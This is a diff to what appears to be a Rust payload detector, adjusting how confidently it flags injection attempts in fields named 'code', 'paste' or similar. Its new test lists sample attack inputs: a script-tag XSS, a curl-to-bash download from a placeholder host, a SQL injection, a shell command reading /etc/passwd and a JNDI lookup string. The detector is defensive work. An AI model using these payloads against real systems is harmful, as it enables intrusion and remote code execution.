@@ -131,7 +131,9 @@ fn observe(seen: &mut Seen<'_>) {
             payload.part = value.place.part();
             payload.name = (!value.name.is_empty() && !value.is_name && value.name != b"<")
                 .then(|| endpoint::shown_name(value.name).into_owned().into());
-            payload.effect = effect::of(seen.exchange, &payload, value.text);
+            // What a document shows may come back with it.
+            let is_alone = payload.weight == Weight::Sure || value.place != Place::Content;
+            payload.effect = is_alone.then(|| effect::of(seen.exchange, &payload, value.text)).flatten();
             payloads.push(payload);
         }
     });
@@ -154,7 +156,10 @@ fn read(value: &Value<'_>, lower: &mut Vec<u8>, references: &mut Vec<u8>) -> Opt
     }
     lower.clear();
     lower.extend(text.iter().map(u8::to_ascii_lowercase));
-    let is_document = value.place == Place::Content && !value.is_name && is_document(text);
+    let is_document = value.place == Place::Content
+        && !value.is_name
+        && value.name != b"<"
+        && (holds_code(value.name) || is_document(text));
     let text = Text { place: value.place, name: value.name, raw: text, lower, is_document };
     if value.is_name {
         let of_name = nosql::name(&text).or_else(|| code::name(&text));
@@ -162,20 +167,29 @@ fn read(value: &Value<'_>, lower: &mut Vec<u8>, references: &mut Vec<u8>) -> Opt
             return of_name;
         }
     }
-    // What reads the same in any text goes first, what people may write as an example last.
-    let found = xml::payload(&text).or_else(|| lookup::payload(&text)).or_else(|| object::payload(&text));
-    if found.is_some() || text.is_document || text.name == b"<" {
+    let mut found = of_value(&text, references)?;
+    // A document may show any language as an example; no logging library's lookup is one that people share.
+    if text.is_document && !text.has(b"jndi:") {
+        found.weight = Weight::Weak;
+    }
+    Some(found)
+}
+
+/// Reads a value with the grammars: what reads the same in any text first, what people may write as an example last.
+fn of_value(text: &Text<'_>, references: &mut Vec<u8>) -> Option<Payload> {
+    let found = xml::payload(text).or_else(|| lookup::payload(text)).or_else(|| object::payload(text));
+    if found.is_some() || text.name == b"<" {
         return found;
     }
     let found = [
-        path::payload(&text),
-        url::payload(&text),
-        markup::payload(&text, references),
-        template::payload(&text),
-        shell::payload(&text),
-        ldap::payload(&text),
-        code::payload(&text),
-        sql::payload(&text),
+        path::payload(text),
+        url::payload(text),
+        markup::payload(text, references),
+        template::payload(text),
+        shell::payload(text),
+        ldap::payload(text),
+        code::payload(text),
+        sql::payload(text),
     ];
     let sure = |payload: &&Payload| payload.weight == Weight::Sure;
     let best = found.iter().flatten().find(sure).or_else(|| found.iter().flatten().next());
@@ -191,6 +205,28 @@ fn is_plain(text: &[u8]) -> bool {
             && memchr::memmem::find(text, b"java").is_none()
             && memchr::memmem::find(text, b"org.").is_none()
             && memchr::memmem::find(text, b"..").is_none()
+            && memchr::memmem::find(text, b".php").is_none()
+}
+
+/// Whether a member is called as those that hold texts and code: pastes, pages, templates.
+fn holds_code(name: &[u8]) -> bool {
+    const NAMES: [&[u8]; 14] = [
+        b"code",
+        b"snippet",
+        b"source",
+        b"content",
+        b"markdown",
+        b"html",
+        b"script",
+        b"sql",
+        b"template",
+        b"body",
+        b"readme",
+        b"paste",
+        b"diff",
+        b"patch",
+    ];
+    NAMES.iter().any(|known| name.eq_ignore_ascii_case(known))
 }
 
 /// Several lines, or more than people type into a field.
@@ -266,6 +302,20 @@ pub(super) mod tests {
         ] {
             assert_eq!(kind(text), None, "{text}");
         }
+    }
+
+    #[test]
+    fn documents_may_show_code() {
+        let of = |name: &str, text: &str| {
+            let value = Value { place: Place::Content, name: name.as_bytes(), text: text.as_bytes(), is_name: false };
+            read(&value, &mut Vec::new(), &mut Vec::new()).map(|payload| payload.weight)
+        };
+        for text in ["<script>alert(1)</script>", "curl -s http://a.example | bash", "' or 1=1 --", "os.system('ls')"] {
+            assert_eq!(of("code", text), Some(Weight::Weak), "{text}");
+            assert_eq!(of("comment", text), Some(Weight::Sure), "{text}");
+        }
+        assert_eq!(of("comment", "First:\n```\nls; cat /etc/passwd\n```\nthen more"), Some(Weight::Weak));
+        assert_eq!(of("code", "${jndi:ldap://a/b}"), Some(Weight::Sure));
     }
 
     proptest::proptest! {
